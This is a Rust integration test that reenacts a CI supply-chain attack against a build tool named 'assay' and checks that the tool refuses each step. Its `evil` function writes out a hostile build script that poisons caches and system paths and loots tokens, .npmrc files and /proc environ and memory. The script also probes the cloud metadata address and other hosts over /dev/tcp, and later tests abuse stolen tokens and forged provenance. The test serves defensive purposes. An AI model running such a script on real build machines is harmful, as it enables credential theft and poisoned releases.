//! A pull request's build is hostile, and somebody has stolen a token: the chain of the TanStack incident of May 2026, link by link.
//!
//! There, a build of a pull request left poison in a cache that the next release build used, the release's signing identity
//! was in reach of the build, and what came out had provenance whose signatures were good. Here each link is tried against
//! `assay`: it fails, or it stands in the evidence; and the release has the digest that a machine gives it that never saw the pull request.
//!
//! M2.1 M2.5 M7.4 M10.1

use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::mishaps::send;
use crate::place::{Place, Ran, git, ran};
use crate::serving::Server;

const SPEC: &str = r#"version = 1
[project]
name = "victim"
owners = ["ada@example.org"]
[base]
packages = ["bash", "coreutils"]
[[step]]
name = "make"
run = ["bash", "build.sh"]
[[artifact]]
name = "victim"
path = "made"
[environment.production]
policy = "policy.toml"
kind = "release"
check = ["/bin/true"]
"#;

const POLICY: &str = r#"version = 1
name = "production"
[[rules]]
rule = "signed-by"
identities = ["builder-*"]
[[rules]]
rule = "logged"
[[rules]]
rule = "complete-hermetic-build"
levels = ["full", "no-proc"]
[[rules]]
rule = "source"
repository = "*"
branches = ["main"]
[[rules]]
rule = "no-uncommitted-changes"
[[rules]]
rule = "rebuilt"
times = 2
"#;

/// As careless as the tools of the incident: whatever a cache holds goes into the release.
const BUILD: &str = "cat src.txt > made\n\
    while read -r cache; do\n\
    if [ -e \"$cache/poison\" ]; then cat \"$cache/poison\" >> made; fi\n\
    done < caches\n";

/// The words that mark what a caller's machine must not give away.
const SECRET: &str = "hunter2-of-the-caller";

/// Caches that a step finds by itself: those of its own home and workspace.
const INSIDE: [&str; 7] = [
    "/home/builder/.cargo/registry",
    "/home/builder/.npm/_cacache",
    "/home/builder/.cache/pip",
    "/build/target",
    "/build/node_modules",
    "/tmp",
    "/dev/shm",
];

/// The caller's machine: a home directory with caches and credentials of its own, and the victim's project.
struct Victim {
    place: Place,
    project: PathBuf,
}

impl Victim {
    fn new() -> Victim {
        let place = Place::new("poisoned");
        let project = place.work().join("victim");
        fs::create_dir(&project).expect("a directory");
        let user = place.root().join("user");
        for cache in [".cargo/registry", ".npm/_cacache", ".cache/pip"] {
            fs::create_dir_all(user.join(cache)).expect("a directory");
        }
        fs::write(user.join(".npmrc"), format!("_authToken={SECRET}\n")).expect("a file");
        let victim = Victim { place, project };
        let inside = INSIDE.map(PathBuf::from);
        let caches = inside.into_iter().chain(victim.outside()).map(|path| format!("{}\n", path.display()));
        for (path, text) in [
            ("assay.toml", SPEC),
            ("policy.toml", POLICY),
            ("build.sh", BUILD),
            ("src.txt", "#!/bin/sh\necho honest\n"),
            ("caches", &caches.collect::<String>()),
        ] {
            fs::write(victim.project.join(path), text).expect("a file");
        }
        git(&victim.project, &["init", "--quiet"]);
        victim.place.assay(&victim.project, &["lock"]).exits(0);
        git(&victim.project, &["add", "--all"]);
        git(&victim.project, &["commit", "--quiet", "-m", "as it is released"]);
        victim
    }

    /// Where the caller's machine keeps what a later build could use.
    fn outside(&self) -> Vec<PathBuf> {
        let (user, home) = (self.place.root().join("user"), self.place.home());
        let of_user = [".cargo/registry", ".npm/_cacache", ".cache/pip", ".cache/assay"].map(|path| user.join(path));
        let of_home = ["", "data", "data/blobs/sha256", "data/trees", "runs", "keys"].map(|path| home.join(path));
        let of_project = ["", "target"].map(|path| self.project.join(path));
        of_user.into_iter().chain(of_home).chain(of_project).collect()
    }

    /// Where the pull request's artifact goes.
    fn out(&self) -> PathBuf {
        self.place.root().join("out")
    }

    /// A command as a CI service starts it: with all its credentials in the environment.
    fn assay(&self, project: &Path, arguments: &[&str]) -> Ran {
        let mut program = self.place.program(project);
        let user = self.place.root().join("user");
        program.env("HOME", &user).env("XDG_CACHE_HOME", user.join(".cache")).env_remove("CARGO_HOME");
        for name in [
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            "ASSAY_CI_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "CARGO_REGISTRY_TOKEN",
            "GITHUB_TOKEN",
            "NODE_AUTH_TOKEN",
        ] {
            program.env(name, SECRET);
        }
        ran(program.args(arguments).output().expect("the program runs"))
    }

    #[track_caller]
    fn json(&self, project: &Path, exit: i32, arguments: &[&str]) -> Value {
        self.assay(project, &[arguments, &["--json"]].concat()).exits(exit).json()
    }
}

/// What the pull request adds to the build: poison for caches, then a search for credentials, whose yield is part of what is built.
fn evil(victim: &Victim, server: &Server, service: u16) -> String {
    let port = server.address.rsplit(':').next().expect("a port");
    let keys = victim.place.home().join("keys");
    let user = victim.place.root().join("user");
    let mut script = "exec 2> /dev/null\n\
        plant() { mkdir -p \"$1\"; echo 'echo POISONED' > \"$1/poison\"; }\n\
        while read -r cache; do plant \"$cache\"; done < caches\n\
        for place in /usr/bin /etc /etc/profile.d; do plant $place; done\n\
        echo 'echo POISONED' >> /usr/bin/bash\n"
        .to_owned();
    script.push_str(&format!(
        "loot() {{ head -c 100000 \"$1\" >> loot; }}\n\
         env >> loot\n\
         for file in {keys}/* {keys}/operator.token {user}/.npmrc /proc/{pid}/environ /proc/{pid}/mem /proc/{pid}/cmdline; do loot $file; done\n\
         for process in /proc/[0-9]*; do loot $process/environ; loot $process/mem; done\n\
         for number in 1 2 3 $PPID; do loot /proc/$number/environ; loot /proc/$number/mem; loot /proc/$number/root{keys}/operator.token; done\n\
         ask() {{ if exec 3<> /dev/tcp/$1/$2; then echo REACHED $1 $2 >> loot; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -c 1000 <&3 >> loot; fi; }}\n\
         (ask 169.254.169.254 80); (ask 127.0.0.1 {port}); (ask 127.0.0.1 {service}); (ask ::1 {port}); (ask 192.0.2.1 443)\n\
         exec 2>&1\n",
        keys = keys.display(),
        user = user.display(),
        pid = server.pid(),
    ));
    script
}

/// All files below a directory that are called `poison`.
fn poison_below(directory: &Path) -> Vec<PathBuf> {
    let found = Command::new("find").arg(directory).args(["-name", "poison"]).output().expect("find runs");
    assert!(found.status.success(), "{}", String::from_utf8_lossy(&found.stderr));
    String::from_utf8(found.stdout).expect("UTF-8").lines().map(PathBuf::from).collect()
}

fn digest_of(built: &Value) -> String {
    built["artifacts"][0]["digest"].as_str().expect("a digest").to_owned()
}

/// The release's digest on a machine that never saw the pull request.
fn clean_machine(victim: &Victim) -> String {
    let place = Place::new("clean");
    let clone = place.work().join("victim");
    git(&place.work(), &["clone", "--quiet", victim.project.to_str().expect("UTF-8"), "victim"]);
    digest_of(&place.json(&clone, 0, &["build"]))
}

fn rule<'a>(verdict: &'a Value, name: &str) -> &'a Value {
    let rules = verdict["rules"].as_array().expect("rules");
    rules.iter().find(|rule| rule["name"] == name).unwrap_or_else(|| panic!("no rule `{name}` in {verdict}"))
}

#[test]
fn a_poisoned_cache_and_a_stolen_identity_lead_nowhere() {
    let victim = Victim::new();
    let clean = clean_machine(&victim);
    let server = Server::start(&victim.place);
    let poisoned = built_by_a_pull_request(&victim, &server);
    let released = victim.json(&victim.project, 0, &["build", "--again"]);
    assert_eq!(digest_of(&released), clean, "the release is that of a clean machine: {released}");
    assert_eq!((&released["complete"], &released["rebuilt"]["equal"]), (&json!(true), &json!(true)), "{released}");
    let gate = victim.json(&victim.project, 0, &["gate", &format!("victim@{clean}"), "--env", "production"]);
    assert_eq!(gate["result"], "pass", "{gate}");
    let operator = victim.place.operator();
    let push = ["push", &format!("victim@{clean}"), "victim:v1", "--server", &server.address, "--token", &operator];
    victim.json(&victim.project, 0, &push);

    stolen_tokens(&victim, &server);
    signed_provenance_of_poison(&victim, &server, &poisoned, &clean);
    let tag = send(&server.address, &operator, "GET /v2/victim/manifests/v1", &[], b"", 0).expect("an answer");
    assert!(String::from_utf8_lossy(&tag.body).contains(&clean), "the release's tag is where it was");
    server.stop();
    assert_eq!(victim.json(&victim.project, 0, &["admin", "fsck"])["result"], "pass");
}

/// The pull request is built on the machine that makes releases. What it gets is what it made itself, and the evidence says what it tried.
fn built_by_a_pull_request(victim: &Victim, server: &Server) -> Value {
    let project = victim.place.work().join("pull-request");
    git(&victim.place.work(), &["clone", "--quiet", "victim", "pull-request"]);
    git(&project, &["switch", "--quiet", "-c", "pr-7"]);
    let service = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = service.local_addr().expect("an address").port();
    let script = evil(victim, server, port) + BUILD + "cat loot >> made\n";
    fs::write(project.join("build.sh"), script).expect("a script");
    git(&project, &["commit", "--quiet", "--all", "-m", "fix a typing error"]);
    let built = victim.json(&project, 0, &["build", "--output", victim.out().to_str().expect("UTF-8")]);

    // Its own caches worked, so the poison would have, too; nothing of it is left anywhere.
    let made = fs::read_to_string(victim.out().join("victim")).expect("an artifact");
    assert_eq!(made.matches("POISONED").count(), INSIDE.len(), "{made}");
    assert_eq!(poison_below(victim.place.root()), Vec::<PathBuf>::new());
    assert!(!INSIDE.iter().any(|path| Path::new(path).join("poison").exists()));
    assert!(git(&victim.project, &["status", "--porcelain"]).is_empty());

    // The variables are those that the plan constructs; no credential, no other process, no service was in reach.
    let run = built["run"].as_str().expect("a digest");
    let trace = victim.assay(&project, &["trace", run]).exits(0).stdout;
    let operator = victim.place.operator();
    for secret in [SECRET, &operator, "BEGIN PRIVATE KEY", "ASSAY_", "GITHUB_", "REACHED"] {
        assert!(!made.contains(secret), "`{secret}` in {made}");
    }
    assert!(made.contains("SOURCE_DATE_EPOCH="), "it saw its own variables: {made}");
    for secret in [SECRET, &operator, "BEGIN PRIVATE KEY"] {
        assert!(!trace.contains(secret) && !built.to_string().contains(secret), "`{secret}` is in the evidence");
    }
    let own_ports = [server.address.rsplit(':').next().expect("a port").to_owned(), port.to_string()];
    told(victim, server.pid(), &built, &trace, &own_ports);
    assert!(service.set_nonblocking(true).is_ok() && service.accept().is_err(), "nobody came");
    built
}

/// Each attempt is in the evidence, with its answer.
fn told(victim: &Victim, server: u32, built: &Value, trace: &str, ports: &[String; 2]) {
    let events: Vec<Value> = trace.lines().map(|line| serde_json::from_str(line).expect("an object")).collect();
    let path_of = |id: &Value| {
        let path = events.iter().find(|event| event["event"] == "path" && event["id"] == *id);
        path.and_then(|path| path["path"].as_str()).unwrap_or_default().to_owned()
    };
    let accesses: Vec<(String, String)> = events
        .iter()
        .filter(|event| event["event"] == "access")
        .map(|event| (path_of(&event["path"]), event["kind"].as_str().unwrap_or_default().to_owned()))
        .collect();
    let kinds = |path: &Path| -> Vec<&str> {
        accesses.iter().filter(|(known, _)| Path::new(known) == path).map(|(_, kind)| kind.as_str()).collect()
    };
    let failed = |path: PathBuf| {
        let kinds = kinds(&path);
        let only = !kinds.is_empty() && kinds.iter().all(|kind| ["missing", "refused"].contains(kind));
        assert!(only, "`{}`: {kinds:?}", path.display());
    };
    victim.outside().iter().for_each(|cache| failed(cache.join("poison")));
    for path in ["/usr/bin/poison", "/etc/poison", "/etc/profile.d/poison"] {
        failed(path.into());
    }
    assert!(kinds(Path::new("/usr/bin/bash")).contains(&"refused"), "the shell could be written");
    let keys = victim.place.home().join("keys");
    failed(keys.join("operator.token"));
    failed(victim.place.root().join("user/.npmrc"));
    for name in ["environ", "mem", "cmdline"] {
        failed(format!("/proc/{server}/{name}").into());
    }
    // The first process is the supervisor's half inside.
    for name in ["environ", "mem"] {
        failed(format!("/proc/1/{name}").into());
    }
    for cache in INSIDE {
        assert!(kinds(&Path::new(cache).join("poison")).contains(&"write"), "{cache}");
    }

    let network: Vec<(&str, bool)> = events
        .iter()
        .filter(|event| event["event"] == "network")
        .map(|event| (event["address"].as_str().unwrap_or_default(), event["errno"] != 0))
        .collect();
    let [own, service] = ports;
    let local = [own, service].map(|port| format!("127.0.0.1:{port}"));
    let addresses = ["169.254.169.254:80", &local[0], &local[1], &format!("[::1]:{own}"), "192.0.2.1:443"];
    assert_eq!(network, addresses.map(|address| (address, true)));
    let denied: Vec<&str> =
        built["denied"].as_array().expect("a list").iter().filter_map(|one| one["what"].as_str()).collect();
    assert_eq!(denied, ["connect 169.254.169.254:80", "connect 192.0.2.1:443"], "the verdict is of ways out alone");
}

/// Somebody with a machine of his own: keys, a poisoned release signed by them, and a policy that lets all pass.
struct Thief {
    place: Place,
    project: PathBuf,
}

impl Thief {
    fn new(victim: &Victim) -> Thief {
        let place = Place::new("thief");
        git(&place.work(), &["clone", "--quiet", victim.project.to_str().expect("UTF-8"), "victim"]);
        let project = place.work().join("victim");
        fs::write(project.join("src.txt"), "#!/bin/sh\necho POISONED\n").expect("a file");
        let lax = "version = 1\nname = \"production\"\n[[rules]]\nrule = \"logged\"\n";
        fs::write(project.join("policy.toml"), lax).expect("a file");
        git(&project, &["commit", "--quiet", "--all", "-m", "as it is released"]);
        place.assay(&project, &["build"]).exits(0);
        assert_eq!(place.json(&project, 0, &["gate", "victim", "--env", "production"])["result"], "pass");
        Thief { place, project }
    }

    /// Why the server said no to a command with a stolen token; empty if it did not.
    fn tries(&self, server: &Server, token: &str, words: &[&str]) -> String {
        // What is pushed is the thief's own; for all else the server is the ledger.
        let place = if words[0] == "push" { &[][..] } else { &["--server", &server.address] };
        let ran = self.place.assay(&self.project, &[words, place, &["--token", token, "--json"]].concat());
        match ran.exit {
            0 => String::new(),
            _ => ran.json()["error"]["message"].as_str().unwrap_or_default().to_owned(),
        }
    }
}

/// With tokens of low roles: no release, no tag of another repository, no statement that counts, no better token.
fn stolen_tokens(victim: &Victim, server: &Server) {
    let thief = Thief::new(victim);
    let host = server.address.trim_start_matches("http://");
    let [release, own] = ["victim:v1", "pr/7:x"].map(|target| format!("{host}/{target}"));
    let unknown = "signed by an unknown key";
    for (name, role, repositories, no) in [
        (
            "reader",
            "reader",
            "*",
            ["may not push to or from repository `victim`", "may not push", "may not add statements"],
        ),
        ("of-pull-requests", "publisher", "pr/*", ["may not push to or from repository `victim`", unknown, unknown]),
        ("of-the-release", "publisher", "victim", [unknown, "may not push to or from repository `pr/7`", unknown]),
        ("deployer", "deployer", "*", ["may not push to or from repository `victim`", "may not push", unknown]),
    ] {
        let create = ["admin", "token", "create", name, "--role", role, "--repository", repositories];
        let token = victim.json(&victim.project, 0, &create)["token"].as_str().expect("a token").to_owned();
        for (words, no) in [
            (&["push", "victim", &release][..], no[0]),
            (&["push", "victim", &own], no[1]),
            (&["build", "--again"], no[2]),
            (&["gate", "victim", "--env", "production", "--record"], no[2]),
            (&["deploy", "victim", "production"], no[2]),
            (&["admin", "token", "create", "x", "--role", "admin"], "may not give or revoke tokens"),
        ] {
            let said = thief.tries(server, &token, words);
            assert!(said.contains(no), "{name} {words:?}: {said}");
        }
        if name == "of-the-release" {
            bare_push(victim, server, &token);
        }
    }
}

/// Who may push to the release's repository cannot move its release; a tag that he adds is on record with his name, and the gate
/// finds nothing that speaks for it.
fn bare_push(victim: &Victim, server: &Server, token: &str) {
    let kind = "application/vnd.oci.image.manifest.v1+json";
    let empty = format!(
        r#"{{"mediaType":"application/vnd.oci.empty.v1+json","digest":"{}","size":2}}"#,
        wire::digest::Digest::of(b"{}")
    );
    let manifest = format!(
        r#"{{"schemaVersion":2,"mediaType":"{kind}","config":{empty},"layers":[{empty}],"annotations":{{"note":"POISONED"}}}}"#
    );
    let put = |tag: &str| {
        let (line, kind) = (format!("PUT /v2/victim/manifests/{tag}"), format!("Content-Type: {kind}"));
        send(&server.address, token, &line, &[&kind], manifest.as_bytes(), manifest.len()).expect("an answer")
    };
    let moved = put("v1");
    assert_eq!(moved.status, 409, "{}", String::from_utf8_lossy(&moved.body));
    assert_eq!(put("v2").status, 201);
    let digest = wire::digest::Digest::of(manifest.as_bytes()).to_string();
    let gate = victim.json(&victim.project, 1, &["gate", &format!("victim@{digest}"), "--env", "production"]);
    assert_eq!(rule(&gate, "signed-by")["result"], "unknown", "{gate}");
    assert_ne!(gate["result"], "pass", "{gate}");
    let operator = victim.place.operator();
    let path = format!("GET /api/v1/statements?digest={digest}");
    let told = send(&server.address, &operator, &path, &[], b"", 0).expect("an answer");
    let told: Value = serde_json::from_slice(&told.body).expect("JSON");
    let payload = told["statements"][0]["bundle"]["dsseEnvelope"]["payload"].as_str().expect("a publication");
    let publication = String::from_utf8(wire::base64::decode(payload).expect("base64")).expect("JSON");
    assert!(publication.contains("of-the-release"), "{publication}");
}

/// What the pull request made has provenance whose signatures are good, by the identity that signs releases. That is not enough.
fn signed_provenance_of_poison(victim: &Victim, server: &Server, poisoned: &Value, clean: &str) {
    let poison = digest_of(poisoned);
    let reference = format!("victim@{poison}");
    assert_eq!(victim.json(&victim.project, 0, &["verify", &reference])["result"], "pass");
    let file = victim.out().join("victim");
    for named in [reference.as_str(), file.to_str().expect("UTF-8")] {
        let gate = victim.json(&victim.project, 1, &["gate", named, "--env", "production"]);
        assert_eq!((&gate["result"], &gate["subject"]["digests"]), (&json!("fail"), &json!([poison])), "{gate}");
        assert_eq!(rule(&gate, "signed-by")["result"], "pass", "{gate}");
        let found = |name: &str| rule(&gate, name)["found"].as_str().unwrap_or_default().to_owned();
        assert_eq!(rule(&gate, "source")["result"], "fail", "{gate}");
        assert!(found("source").contains("branch `pr-7`"), "{gate}");
        assert_eq!(rule(&gate, "complete-hermetic-build")["result"], "fail", "{gate}");
        assert!(found("complete-hermetic-build").contains("`/proc` by `bash`"), "{gate}");
        assert_eq!(rule(&gate, "rebuilt")["result"], "unknown", "{gate}");
    }
    let deploy = victim.json(&victim.project, 1, &["deploy", &reference, "production"]);
    assert_eq!(deploy["live"], false, "{deploy}");

    // The same statements with the release's digest in place of the poison's: no signature is good any more.
    let token = ["admin", "token", "create", "relabel", "--role", "publisher", "--repository", "*"];
    let token = victim.json(&victim.project, 0, &token)["token"].as_str().expect("a token").to_owned();
    let bundles = fs::read_to_string(victim.out().join("victim.sigstore.jsonl")).expect("bundles");
    assert_eq!(bundles.lines().count(), 3, "recipe, run and bill of materials: {bundles}");
    let (from, to) = (&poison["sha256:".len()..], &clean["sha256:".len()..]);
    for bundle in bundles.lines() {
        let mut bundle: Value = serde_json::from_str(bundle).expect("a bundle");
        let mut envelope = bundle["dsseEnvelope"].take();
        let payload = wire::base64::decode(envelope["payload"].as_str().expect("a payload")).expect("base64");
        let payload = String::from_utf8(payload).expect("JSON").replace(from, to);
        envelope["payload"] = Value::from(wire::base64::encode(payload.as_bytes()));
        let body = envelope.to_string();
        let answer = send(&server.address, &token, "POST /api/v1/statements", &[], body.as_bytes(), body.len());
        let answer = answer.expect("an answer");
        let said = String::from_utf8_lossy(&answer.body).into_owned();
        assert_eq!(answer.status, 422, "{said}");
        assert!(said.contains("the signature is not one of `builder-full`"), "{said}");
    }
}
